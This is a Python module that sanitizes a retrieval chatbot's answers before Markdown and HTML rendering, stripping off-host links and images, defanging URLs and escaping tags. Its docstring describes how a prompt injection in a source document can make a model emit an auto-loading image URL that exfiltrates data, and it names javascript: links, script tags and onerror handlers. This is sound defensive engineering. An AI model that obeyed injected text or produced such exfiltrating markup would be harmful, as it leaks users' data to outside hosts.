"""Answer text made safe for the Markdown and HTML renderers of chat frontends.

A document can carry a prompt injection, and a model that follows it can write Markdown or
HTML that a chat window acts on: an image it fetches at once (`![x](http://host/log?d=...)`
sends data out without a click), a `javascript:` link, a `<script>` or `onerror=`. Extractive
answers quote documents, which may hold the same. `AnswerLoop.answer` passes every final
answer text through `sanitize_answer` (the one place: POST /rag, the chat endpoint plain and
streamed, `sightline ask` all read that text). Promises:

- An image or link survives only when its URL is http(s) on the host of a cited source's own
  URL (`Citation.url`); any other keeps its text ("[text](url)" -> "text", an image's
  alt text plus "(image removed)"). So javascript:, data:, vbscript: and relative URLs never
  survive. Reference definitions ("[x]: url") are escaped, so reference links stay text.
- A bare web address on another host is defanged ("hxxp://", "www[.]") so no renderer
  autolinks it.
- Every "<" that could open an HTML tag, comment or autolink becomes "&lt;", so HTML shows as
  text; a "<" before a space or digit ("x < 5") is left as written.
- Citation markers ([1], [1][2]) and all other text are unchanged.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any
from urllib.parse import urlsplit

SAFE_SCHEMES = ("http", "https")
IMAGE_REMOVED = "(image removed)"
# [text](dest "title") and ![alt](dest): dest may hold one level of parentheses (javascript:alert(1))
_INLINE = re.compile(r"(!?)\[([^\[\]\n]*)\]\(\s*<?((?:[^\s()<>]|\([^\s()]*\))*)>?"
                     r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?\s*\)")
_REFERENCE_DEFINITION = re.compile(r"^( {0,3})\[(?=[^\]\n]+\]:)", re.MULTILINE)
_LINK_OPENERS = re.compile(r"!\[|\]\(")
_BARE_URL = re.compile(r"(?<![\w@/.-])((?:https?|ftp)://|www\.)[^\s<>()\[\]`]*", re.IGNORECASE)
_TAG_OPEN = re.compile(r"<(?=[A-Za-z/!?])")
_MARKER_LABEL = re.compile(r"^\s*\d+(?:\s*,\s*\d+)*\s*$")  # a citation marker's inside: "1", "1, 2"
_SLOT = "\x00{}\x00"
_SLOTS = re.compile("\x00(\\d+)\x00")


def allowed_hosts(urls: Iterable[str | None]) -> frozenset[str]:
    """The lower-case hosts of the http(s) URLs given (a cited source's own URL), others skipped."""
    hosts = set()
    for url in urls:
        parts = _split(url or "")
        if parts is not None and parts.scheme in SAFE_SCHEMES and parts.hostname:
            hosts.add(parts.hostname.lower())
    return frozenset(hosts)


def sanitize_answer(text: str, hosts: frozenset[str] = frozenset()) -> str:
    """The text with links, images and HTML neutralised as the module docstring promises.

    Args:
        text: an answer (a model's reply, quoted documents, or a refusal).
        hosts: the hosts links and images may point at (`allowed_hosts` of the cited sources).
    """
    kept: list[str] = []

    def inline(match: re.Match) -> str:
        image, label, url = match.group(1), match.group(2), match.group(3)
        if _allowed(url, hosts):
            kept.append(match.group(0))
            return _SLOT.format(len(kept) - 1)
        if image:
            return f"{label} {IMAGE_REMOVED}".strip()
        return f"[{label}]" if _MARKER_LABEL.match(label) else label

    out = _INLINE.sub(inline, text)
    out = _REFERENCE_DEFINITION.sub(lambda m: m.group(1) + "\\[", out)
    out = _LINK_OPENERS.sub(lambda m: "!\\[" if m.group(0) == "![" else "]\\(", out)
    out = _BARE_URL.sub(lambda m: m.group(0) if _allowed(m.group(0), hosts) else _defang(m.group(0)), out)
    out = _TAG_OPEN.sub("&lt;", out)
    return _SLOTS.sub(lambda m: kept[int(m.group(1))], out)


def sanitize_value(value: Any, hosts: frozenset[str] = frozenset()) -> Any:
    """A JSON-like value with every string passed through `sanitize_answer` (the trace parts
    that quote a model's rejected claims: validation details, retry hints, dropped claims)."""
    if isinstance(value, str):
        return sanitize_answer(value, hosts)
    if isinstance(value, dict):
        return {k: sanitize_value(v, hosts) for k, v in value.items()}
    if isinstance(value, list):
        return [sanitize_value(v, hosts) for v in value]
    return value


def _split(url: str):
    """urlsplit of the URL, None when it cannot be read (an invalid port, brackets)."""
    try:
        parts = urlsplit(url.strip())
        parts.port  # noqa: B018 - raises ValueError for an invalid port
        return parts
    except ValueError:
        return None


def _allowed(url: str, hosts: frozenset[str]) -> bool:
    """True for an http(s) URL on one of `hosts` (a bare "www." address counts as http)."""
    if url.lower().startswith("www."):
        url = "http://" + url
    parts = _split(url)
    return (parts is not None and parts.scheme.lower() in SAFE_SCHEMES and parts.hostname is not None
            and parts.hostname.lower() in hosts)


def _defang(url: str) -> str:
    """A web address no renderer autolinks: "hxxp://host", "www[.]host"."""
    url = re.sub(r"^(h)tt(ps?)(?=://)", r"\1xx\2", url, flags=re.IGNORECASE)
    url = re.sub(r"^ftp(?=://)", "fxp", url, flags=re.IGNORECASE)
    return re.sub(r"(?i)(?<![\w.])www\.", "www[.]", url)
